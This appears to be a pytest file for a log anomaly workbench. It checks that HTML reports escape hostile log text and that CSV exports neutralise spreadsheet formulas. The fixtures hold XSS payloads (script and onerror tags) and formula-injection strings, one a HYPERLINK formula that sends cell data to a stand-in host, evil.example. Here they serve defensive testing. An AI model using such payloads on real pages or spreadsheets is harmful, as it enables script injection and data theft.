"""What leaves the workbench: the report holds log text as text only, and a spreadsheet runs no cell of an export."""

import base64
import csv
import hashlib
import json
import os
import re
import time
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import polars as pl
import pytest

from core import workbench
from core.errors import WorkbenchError
from core.report import Incident, Judgement, Message, Report, html_report
from core.report.charts import histogram, spark
from core.report.literal import shown
from core.workbench import reports
from tests.builders import HOSTILE_LINES, store_run

HOSTILE = "</title><script>alert(1)</script><img src=x onerror=alert(2)>\"'&\x1b[31m\u202e"
TAGS = {
    "html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "p", "dl", "div", "dt", "dd", "svg", "rect",
    "line", "text", "table", "details", "summary", "b", "thead", "tbody", "tr", "th", "td", "br", "span", "pre",
}  # fmt: skip
MESSAGE = Message(HOSTILE, 3, 0.9, HOSTILE, HOSTILE, HOSTILE, "2026-11-18 06:00:00", "2026-11-18 07:00:00")
FORMULAS = ['=HYPERLINK("http://evil.example?"&A1,"x")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "＝1+1", "plain = text"]


class Page(HTMLParser):
    """Tags with their attributes, and the text outside of style."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words = self.style = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attributes)))

    def handle_data(self, data: str) -> None:
        if self.tags and self.tags[-1][0] == "style" and not self.style:
            self.style = data
        self.words += data


def hostile_report() -> Report:
    pair = [(HOSTILE, HOSTILE)]
    return Report(
        title=HOSTILE,
        made=HOSTILE,
        threshold=0.5,
        facts=pair,
        numbers=pair,
        notes=[HOSTILE],
        scores=[(0.1, 990), (0.5, 10)],
        timeline=[(HOSTILE, 10, 1), ("b", 10, 2)],
        timeline_title=HOSTILE,
        incidents=[Incident(HOSTILE, 3, 2, HOSTILE, HOSTILE, HOSTILE, 0.9, 7, HOSTILE, [0, 3, 1], HOSTILE)],
        n_incidents=5,
        messages=[replace(MESSAGE, first=HOSTILE)],
        n_messages=7,
        judgements=[Judgement(1, 1, HOSTILE, 0.9, HOSTILE, HOSTILE, HOSTILE, HOSTILE)],
        n_judgements=1,
        settings=json.dumps({"read": HOSTILE}),
    )


def test_log_text_is_text_and_the_page_needs_nothing_beside_itself():
    page = Page(html_report(hostile_report()))
    assert {tag for tag, _ in page.tags} <= TAGS
    attributes = {name for _, found in page.tags for name in found}
    assert not any(name.startswith("on") or name in ("src", "href", "style", "srcdoc", "action") for name in attributes)
    assert "url(" not in page.style and "@import" not in page.style
    assert page.words.count("<script>alert(1)</script>") >= 15  # read as words by whoever reads the page
    assert "\x1b" not in page.words and "\u202e" not in page.words
    assert "\\x1b[31m\\u202e" in page.words


def test_the_policy_allows_its_own_style_sheet_and_nothing_else():
    page = Page(html_report(hostile_report()))
    [policy] = [found["content"] for _, found in page.tags if found.get("http-equiv") == "Content-Security-Policy"]
    digest = base64.b64encode(hashlib.sha256(page.style.encode()).digest()).decode()
    assert policy == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"


def test_long_texts_are_cut_and_it_says_so():
    assert shown("a" * 599) == "a" * 599
    assert shown("<" * 700) == "&lt;" * 600 + " … (100 characters more)"
    page = Page(html_report(replace(hostile_report(), messages=[replace(MESSAGE, text="b" * 10_000)], n_messages=9)))
    assert "b" * 601 not in page.words
    assert "The first 1 of 9" in page.words


def test_the_histogram_parts_the_lines_at_the_threshold():
    page = Page(histogram([(0.0, 5), (0.111, 2), (0.113, 30), (1.0, 1)], threshold=0.112))
    bars = [found["class"] for tag, found in page.tags if tag == "rect"]
    titles = re.findall(r"(\d\.\d\d to \d\.\d\d: [\d,]+ lines?)", page.words)
    assert titles == [
        "0.00 to 0.02: 5 lines",
        "0.10 to 0.11: 2 lines",
        "0.11 to 0.12: 30 lines",
        "0.98 to 1.00: 1 line",
    ]
    assert bars == ["normal", "normal", "flagged", "flagged"]
    [svg] = [found for tag, found in page.tags if tag == "svg"]
    assert svg["aria-label"] == "Lines by score; 31 at or above the threshold 0.1120"


def test_a_chart_is_told_as_a_table_too():
    words = Page(histogram([(0.0, 5), (0.9, 1_000)], threshold=0.5)).words
    assert words.endswith("As a tableScoreLines0.00 to 0.0250.90 to 0.921,000")
    page = Page(spark([0, 400, 1]))
    assert [found["class"] for tag, found in page.tags if tag == "rect"] == ["flagged"] * 2
    assert page.tags[0][1]["aria-label"].endswith("most lines in part 2 of 3")
    assert Page(html_report(hostile_report())).words.count("As a table") == 2


def test_the_report_tells_the_incidents_and_how_they_were_judged(home: Path):
    lines = [(f"session opened {no}", "session opened num", 0.1) for no in range(80)]
    lines += [(f"disk sda{no} failed hard", "disk failed hard", 0.9) for no in range(3)]
    store_run("r1", lines, name="auth.log")
    workbench.set_verdict("r1", [81, 82, 83], "abnormal")
    page = Page(workbench.report_html("r1"))
    assert "All 1. An incident is flagged lines" in page.words
    assert "10.90003" in page.words  # number, score, lines
    assert "disk failed hard1 message · 3 judged abnormalline 81 disk sda0 failed hard" in page.words
    assert "Verdicts\nAll 1." in page.words
    assert "81and 2 moreabnormal0.9000" in page.words  # verdicts that say the same of one message are one row
    workbench.mute(["disk failed hard"], "known", datetime.now(UTC) + timedelta(days=1))
    muted = Page(workbench.report_html("r1")).words
    assert "3 lines of 1 muted messages reach the threshold and are left out." in muted
    assert "Flagged lines0" in muted and "Lines judged3" in muted and "Flagged and judged" not in muted
    assert [found for tag, found in page.tags if tag == "svg"][-1]["class"] == "spark"


def test_the_report_tells_the_run_its_threshold_and_verdicts(home: Path, tmp_path: Path):
    log = tmp_path / "auth.log"
    log.write_text("scored\n")
    digest = hashlib.sha256(log.read_bytes()).hexdigest()
    os.utime(log, (1, 1))
    lines = [("session opened 1", "session opened num", 0.1)] * 8 + [("root shell", "root shell", 0.9)] * 2
    info = {"source_path": str(log), "learnt": {"created_utc": "2026-01-02T03:04:05Z", "data_sha256": "abc"}}
    store_run("r1", lines, name="auth.log", **info)
    workbench.set_threshold("r1", 0.7)
    workbench.set_verdict("r1", [9], "abnormal", "seen <b>before</b>")
    workbench.set_verdict("r1", [1, 10], "normal")
    words = Page(workbench.report_html("r1")).words
    for part in (
        "Abnormal lines of auth.log", "Flagged lines2", "Share of lines20.00%", "Flagged messages1 of 2", "All 1, ",
        "Lines judged3", "Flagged and judged abnormal1 of 2", "seen <b>before</b>", "SHA-256 of what it learntabc",
        f"SHA-256 of the file{digest}Format", "2026-11-18 00:08:00",
    ):  # fmt: skip
        assert part in words, part
    assert re.search(r"Threshold0\.7000, set by analyst 20\d\d-", words)
    assert "First threshold of the run0.5000" in words
    os.utime(log, (4e9, 4e9))
    assert "has changed since it was scored" in workbench.report_html("r1")


def test_a_spreadsheet_runs_no_cell_and_other_programs_get_the_text_itself(home: Path):
    store_run("r1", [(raw, raw, 0.9) for raw in FORMULAS], name="=cmd.log")
    path = workbench.export("r1", "all lines", ".csv")
    assert path.name == "cmd.log-all-lines.csv"
    with path.open(newline="") as file:
        rows = list(csv.DictReader(file))
    neutral = [f"'{text}" for text in FORMULAS[:-1]] + ["plain = text"]
    assert [row["line"] for row in rows] == neutral
    assert [row["template"] for row in rows] == neutral
    assert [row["score"] for row in rows] == ["0.9"] * len(FORMULAS)
    as_json = [json.loads(line) for line in workbench.export("r1", "all lines", ".jsonl").open()]
    assert [row["line"] for row in as_json] == FORMULAS
    assert pl.read_parquet(workbench.export("r1", "all lines", ".parquet"))["line"].to_list() == FORMULAS


def test_flagged_lines_are_those_at_the_threshold_in_force(home: Path):
    store_run("r1", [("a", "a", 0.2), ("", "", 0.0), ("b", "b", 0.6), ("c", "c", 0.9)])
    columns = [
        "line_no",
        "score",
        "is_anomaly",
        "session",
        "template",
        "knn",
        "reason",
        "timestamp_utc",
        "line",
        "muted",
    ]
    rows = pl.read_csv(workbench.export("r1", "flagged lines", ".csv"))
    assert rows.columns == columns
    assert rows["line_no"].to_list() == [3, 4]
    workbench.set_threshold("r1", 0.9)
    assert pl.read_parquet(workbench.export("r1", "flagged lines", ".parquet"))["line_no"].to_list() == [4]
    everything = pl.read_parquet(workbench.export("r1", "all lines", ".parquet"))
    assert everything["is_anomaly"].to_list() == [0, 0, 0, 1]
    assert everything["timestamp_utc"][0] == datetime(2026, 11, 18, tzinfo=UTC).replace(tzinfo=None)


def test_exports_wait_a_day_and_nobody_guesses_their_place(home: Path):
    store_run("r1", [("a", "a", 0.9)])
    first = workbench.export("r1", "report", ".html")
    assert workbench.exported(first.parent.name) == first
    os.utime(first.parent, (time.time() - reports.KEPT_SECONDS - 1,) * 2)
    second = workbench.export("r1", "report", ".html")
    assert list((home / "exports").iterdir()) == [second.parent]
    for token in (first.parent.name, "", "..", "../runs", "a" * 32):
        with pytest.raises(WorkbenchError, match="no longer there"):
            workbench.exported(token)


@pytest.mark.parametrize(
    ("what", "suffix"), [("report", ".csv"), ("all lines", ".html"), ("sessions", ".csv"), ("x", ".csv")]
)
def test_what_cannot_be_exported_is_refused_and_leaves_nothing(home: Path, what: str, suffix: str):
    store_run("r1", [("a", "a", 0.9)])
    with pytest.raises(WorkbenchError):
        workbench.export("r1", what, suffix)
    assert not list((home / "exports").glob("*"))


def test_lines_as_documents_of_the_elastic_common_schema():
    lines = [("session opened", "session opened", 0.1), *((text, text, 0.9) for text in HOSTILE_LINES), ("", "", 0.0)]
    store_run("r1", lines, name="auth.log", model="base")
    workbench.mute([HOSTILE_LINES[0]], "known", datetime.now(UTC) + timedelta(days=1))
    documents = [json.loads(row) for row in workbench.export("r1", "all lines", workbench.ECS).open()]
    assert [document["message"] for document in documents] == [raw for raw, _, _ in lines]
    assert [document["event"]["kind"] for document in documents] == ["event"] * 2 + ["alert"] * 5 + ["event"]
    first = documents[2]
    assert first["@timestamp"] == "2026-11-18T00:02:00.000000Z"
    assert first["ecs"] == {"version": "8.17.0"}
    assert (first["log"], first["process"], first["host"]) == ({"level": "INFO"}, {"name": "sshd"}, {"name": None})
    assert {name: first["event"][name] for name in ("module", "dataset", "sequence", "risk_score")} == {
        "module": "tinylogbert", "dataset": "auth.log", "sequence": 3, "risk_score": 90.0,
    }  # fmt: skip
    assert first["tinylogbert"]["model"] == "base"
    store_run("r2", lines[:2], hosts=["192.0.2.7", "192.0.2.8"], format="access (90%)")
    row = json.loads(workbench.export("r2", "all lines", workbench.ECS).open().readline())
    assert row["source"] == {"address": "192.0.2.7"} and "host" not in row
    assert [document["tinylogbert"]["muted"] for document in documents[:3]] == [False, True, False]
    flagged = workbench.export("r1", "flagged lines", workbench.ECS).read_text().splitlines()
    assert len(flagged) == len(HOSTILE_LINES)
    with pytest.raises(WorkbenchError, match="no export"):
        workbench.export("r1", "sessions", workbench.ECS)


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".parquet"])
def test_an_incident_is_exported_alone_and_its_formulas_are_text(suffix: str):
    store_run("r1", [(text, text, 0.9) for text in HOSTILE_LINES])
    path = workbench.export("r1", "all lines", suffix, line_nos=[5, 2])
    assert path.name == f"r1.log-incident-2{suffix}"
    read = {".csv": pl.read_csv, ".jsonl": pl.read_ndjson, ".parquet": pl.read_parquet}[suffix]
    rows = read(path)
    assert rows["line_no"].to_list() == [2, 5]
    assert rows["line"][1] == ("'" if suffix == ".csv" else "") + HOSTILE_LINES[4]
